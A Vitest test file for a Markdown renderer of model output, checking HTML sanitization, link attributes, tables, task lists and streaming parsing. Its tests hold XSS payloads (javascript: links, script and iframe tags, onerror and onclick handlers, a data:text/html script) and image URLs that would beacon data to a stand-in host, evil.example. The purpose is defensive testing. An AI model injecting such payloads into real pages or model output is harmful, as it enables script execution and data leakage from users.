// @vitest-environment jsdom
import { expect, test } from 'vitest'
import remend from 'remend'
import { growingBlocks, lexer, toHtml } from './Markdown'

const html = (text: string) => toHtml(lexer(text))

test('a_picture_becomes_a_link_because_model_text_must_load_nothing', () => {
  const said = html(
    '![secret](https://evil.example/x?data=1) <img src="https://evil.example/y"> ![a][r]\n\n[r]: //evil.example/z',
  )

  expect(said).not.toContain('<img')
  expect(said).toContain('href="https://evil.example/x?data=1"')
})

test.each([
  '[x](javascript:alert(1))',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<svg><image href="https://evil.example"/></svg>',
  '<form action="https://evil.example"><input></form>',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x"onerror="alert(1)](y)',
])('%s_does_nothing', (text) => {
  const box = document.createElement('div')
  box.innerHTML = html(text)

  expect(box.querySelector('script,iframe,svg,form,img,style,[style],[onclick],[onerror]')).toBeNull()
  for (const link of box.querySelectorAll('a'))
    expect(link.getAttribute('href') ?? '').not.toMatch(/^(javascript|data):/)
})

test('links_open_elsewhere_and_tell_nothing', () => {
  expect(html('[list](https://example.org)')).toContain('target="_blank"')
  expect(html('[list](https://example.org)')).toContain('rel="noopener noreferrer"')
})

test('a_table_keeps_the_side_its_figures_stand_on', () => {
  expect(html('| a |\n| ---: |\n| 1 |')).toContain('<td align="right">1</td>')
})

test('a_list_of_tasks_has_marks_and_no_fields', () => {
  const box = document.createElement('div')
  box.innerHTML = html('- [x] rope\n- [ ] paint')

  expect(box.querySelector('input')).toBeNull()
  expect([...box.querySelectorAll('[data-task]')].map((one) => one.getAttribute('aria-label'))).toEqual([
    'Done',
    'Open',
  ])
})

const grown = [
  '# Log\n\nThe *first* watch, see [it][1].\n\n[1]: https://example.org\n\n- sails\n\n- courses\n  of 3\n\nAnd [again][1]\n===\n',
  '| a | b |\n|---|---|\n| 1 | 2 |\n\n> said\nmore\n\n```ts\nconst a = 1\n\nconst b = 2\n```\n\n    indented\n\nEnd.',
  'One\n\n$$\na\n\nb\n$$\n\nTwo\n\n\\[\nc\n\nd\n\\]\n\nThree costs $5\n\nFour\n\nFive',
  'With\r\n\r\nends of lines\r\n\r\nof Windows\r\n\r\n1. a\r\n2. b',
]

test.each(grown)('text_that_grows_reads_as_if_it_were_whole', (text) => {
  const blocks = growingBlocks()
  for (let end = 1; end <= text.length; end++) {
    const so = text.slice(0, end)
    expect(toHtml(blocks.read(so))).toBe(toHtml(lexer(remend(so))))
  }
})

test('text_that_begins_again_is_read_from_its_beginning', () => {
  const blocks = growingBlocks()
  blocks.read('one\n\ntwo\n\nthree\n\nfour')

  expect(toHtml(blocks.read('else\n\ntwo'))).toBe(html('else\n\ntwo'))
})
